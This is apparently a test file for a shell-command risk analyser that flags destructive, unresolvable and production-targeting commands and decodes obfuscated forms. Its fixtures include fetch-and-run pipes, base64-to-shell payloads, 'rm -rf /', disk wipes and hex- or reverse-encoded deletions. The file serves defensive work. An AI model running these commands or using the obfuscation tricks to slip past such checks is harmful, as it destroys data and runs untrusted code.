// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell text
import { describe, expect, it } from 'vitest';
import type { ActionContext } from '@/lib/domain/effect';
import type { Tier } from '@/lib/domain/environment';
import { understandCommand } from './understand';

const risk = (command: string) => understandCommand(command).risk;

describe('what cannot be known before it runs', () => {
  it.each([
    'rm -rf "$DIR"',
    'rm -rf "$DIR"/*',
    '$CMD',
    '"$TOOL" delete everything',
    'eval "$X"',
    'bash -c "$SCRIPT"',
    'curl -s https://x.sh | bash',
    'bash <(curl -s https://x.sh)',
    'source <(curl -s https://x.sh)',
    'sh -c "$(curl -fsSL https://x.sh)"',
    'echo $PAYLOAD | base64 -d | sh',
    'kubectl delete ns "$NS"',
    'kubectl "$VERB" ns x',
    'find "$ROOT" -delete',
    'find . -name "*.c" | xargs rm',
    'ssh host "$REMOTE"',
    'curl -X "$METHOD" https://x',
    'xargs -I{} sh -c "{}" < list',
    'dd if=/dev/zero of="$DISK"',
    'psql -c "DROP TABLE $T"',
    'echo "unclosed',
  ])('is said, and is never harmless: %s', (command) => {
    const { unresolved, risk: found } = understandCommand(command);
    expect(unresolved.length).toBeGreaterThan(0);
    expect(['unresolved', 'critical']).toContain(found);
  });

  it.each([
    'cat "$f"',
    'ls $DIR',
    'grep -r "$X" .',
    'echo "$HOME"',
    'kubectl get pods -n "$NS"',
    'cd "$DIR" && ls',
    'git log "$A..$B"',
    'for f in *.txt; do wc -l "$f"; done',
    'test -n "$X"',
    'pid=$(pgrep node); ps -p "$pid"',
  ])('does not matter to a read: %s', (command) => expect(risk(command)).toBe('none'));
});

describe('what can be known', () => {
  it.each([
    ['a variable set before', 'T=/srv/data; rm -rf "$T"', '/srv/data'],
    ['a variable out of a variable', 'A=srv; B=/$A/data; rm -rf $B', '/srv/data'],
    ['a default', 'X=""; rm -rf "${X:-/srv/data}"', '/srv/data'],
    ['a printed word', 'rm -rf $(echo /srv/data)', '/srv/data'],
    ['ANSI-C quoting', "$'\\x72\\x6d' -rf /srv/data", '/srv/data'],
    ['an array', 'c=(rm -rf /srv/data); "${c[@]}"', '/srv/data'],
    ['blanks out of IFS', 'rm${IFS}-rf${IFS}/srv/data', '/srv/data'],
    ['a here-document', "sh <<'E'\nrm -rf /srv/data\nE", '/srv/data'],
    ['hexadecimal', 'echo 726d202d7266202f7372762f64617461 | xxd -r -p | sh', '/srv/data'],
    ['reversed text', "echo 'atad/vrs/ fr- mr' | rev | bash", '/srv/data'],
    ['an alias', "alias wipe='rm -rf'; wipe /srv/data", '/srv/data'],
    ['a function with parameters', 'gone() { rm -rf "$1"; }; gone /srv/data', '/srv/data'],
    ['a looked-up program', '$(which rm) -rf /srv/data', '/srv/data'],
    ['a prefix taken off', 'P=x:/srv/data; rm -rf "${P#x:}"', '/srv/data'],
    ['literal words for xargs', 'echo /srv/data | xargs rm -rf', '/srv/data'],
  ])('%s', (_, command, resource) => {
    const { effects, unresolved } = understandCommand(command);
    expect(unresolved).toEqual([]);
    expect(effects.find((effect) => effect.verb === 'destroy')?.resource).toBe(resource);
  });

  it('follows each value of a loop', () => {
    const { effects } = understandCommand('for e in dev prod; do kubectl --context $e delete ns shop; done');
    expect(effects.map((effect) => effect.environment?.tier).sort()).toEqual(['development', 'production']);
  });

  it('takes a function nobody calls for what it would do', () => {
    expect(understandCommand('f() { rm -rf /srv; }').verb).toBe('destroy');
  });
});

describe('risk', () => {
  it.each([
    ['none', 'ls'],
    ['none', 'terraform plan -var-file=prod.tfvars'],
    ['low', 'npm run build'],
    ['low', 'rm -rf node_modules dist'],
    ['low', 'git commit -m "delete prod"'],
    ['low', 'kubectl apply -f k8s/'],
    ['low', 'vault kv get secret/x'],
    ['high', 'kubectl --context prod apply -f k8s/'],
    ['high', 'rm notes.md'],
    ['high', 'aws iam create-access-key --user-name bob'],
    ['high', 'vault kv get -address https://vault.prod.example.com secret/x'],
    ['critical', 'rm -rf /'],
    ['critical', 'rm -rf ~'],
    ['critical', 'terraform destroy'],
    ['critical', 'kubectl --context prod delete pod web-1'],
    ['critical', 'aws rds delete-db-instance --db-instance-identifier shop --skip-final-snapshot'],
    ['critical', 'psql -c "DELETE FROM users"'],
    ['critical', 'git push --force origin main'],
    ['critical', 'docker volume rm data'],
    ['critical', 'mkfs.ext4 /dev/sdb'],
  ])('%s: %s', (expected, command) => expect(risk(command)).toBe(expected));
});

describe('environment', () => {
  const context: ActionContext = {
    environment: 'shop-staging',
    environments: [
      {
        slug: 'shop-production',
        tier: 'production',
        identifiers: ['123456789012', 'gke_shop_live', 'db.shop.example.com'],
      },
      { slug: 'shop-staging', tier: 'staging', identifiers: ['210987654321', 'stage.example.com'] },
    ],
  };
  const target = (command: string) => understandCommand(command, context).effects[0]?.environment;

  it.each([
    ['--context gke_shop_live', 'kubectl --context gke_shop_live delete ns x', 'shop-production'],
    [
      'an account in an ARN',
      'aws sqs purge-queue --queue-url https://sqs.eu-west-1.amazonaws.com/123456789012/q',
      'shop-production',
    ],
    ['a host', 'psql -h db.shop.example.com -c "drop table x"', 'shop-production'],
    [
      'a host in an address',
      'psql postgres://u:p@db.shop.example.com/x -c "drop table x"',
      'shop-production',
    ],
    ['nothing', 'kubectl delete ns x', 'shop-staging'],
  ])('is known by %s', (_, command, slug) => expect(target(command)?.slug).toBe(slug));

  it.each([
    ['AWS_PROFILE=prod', 'AWS_PROFILE=prod aws s3 rb s3://b'],
    ['AWS_PROFILE=prod', 'export AWS_PROFILE=prod; aws s3 rb s3://b'],
    ['-var-file prod.tfvars', 'terraform apply -var-file prod.tfvars'],
    ['--stage prod', 'serverless remove --stage prod'],
    ['-e prod', 'helmfile -e prod destroy'],
    ['-chdir envs/prod', 'terraform -chdir=envs/prod apply'],
    ['RAILS_ENV=production', 'RAILS_ENV=production rails db:drop'],
    ['cd /srv/prod', 'cd /srv/prod && terraform destroy'],
  ])('is hinted at by %s', (signal, command) => {
    expect(understandCommand(command).effects[0]?.environment).toEqual({
      slug: null,
      tier: 'production',
      signal,
    });
  });

  it('says when signals disagree', () => {
    expect(understandCommand('AWS_PROFILE=dev aws --profile prod s3 rb s3://b').conflicts).toEqual([
      '--profile prod says production, AWS_PROFILE=dev says development',
    ]);
    expect(understandCommand('kubectl --context gke_shop_live delete ns x', context).conflicts).toEqual([
      '--context gke_shop_live says shop-production, the session belongs to shop-staging',
    ]);
    expect(understandCommand('kubectl delete ns x', context).conflicts).toEqual([]);
  });

  it('a folder alone makes an action graver, never milder; the name of an account says nothing', () => {
    const target = (tier: Tier, cwd: string) => {
      const environments = [{ slug: 'shop', tier, identifiers: [] }];
      return understandCommand('terraform destroy', { environment: 'shop', environments, cwd }).effects[0]
        ?.environment?.tier;
    };
    expect(target('production', '/srv/dev')).toBe('production');
    expect(target('staging', '/srv/prod')).toBe('production');
    expect(target('staging', '/home/prod/shop')).toBe('staging');
    expect(target('production', '/Users/dev/shop')).toBe('production');
  });

  it('keeps passwords out of what it says', () => {
    expect(
      JSON.stringify(
        understandCommand(
          'DATABASE_URL=postgres://u:hunter2@prod/x psql postgres://u:hunter2@prod/x -c "drop table x"',
        ),
      ),
    ).not.toContain('hunter2');
  });
});
